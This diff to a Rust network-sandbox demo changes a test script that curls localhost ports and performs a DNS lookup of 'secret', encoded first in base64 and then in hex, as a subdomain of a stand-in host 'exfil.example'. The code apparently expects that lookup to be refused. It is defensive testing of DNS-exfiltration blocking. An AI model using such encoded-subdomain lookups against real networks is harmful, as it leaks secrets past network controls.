@@ -26,8 +26,8 @@ const BLOCKED_PORT: u16 = 9090;
 /// no server (the namespace has none anyway).
 const SCRIPT: &str = "curl -sS --max-time 3 http://127.0.0.1:8080/; \
                       curl -sS --max-time 3 http://127.0.0.1:9090/ || true; \
-                      getent hosts c2VjcmV0.exfil.example || echo 'lookup refused'";
-const REFUSED_NAME: &str = "c2VjcmV0.exfil.example";
+                      getent hosts 736563726574.exfil.example || echo 'lookup refused'";
+const REFUSED_NAME: &str = "736563726574.exfil.example";
 
 /// Builds the agent and runs the demo; needs root.
 pub fn run() -> Result<()> {
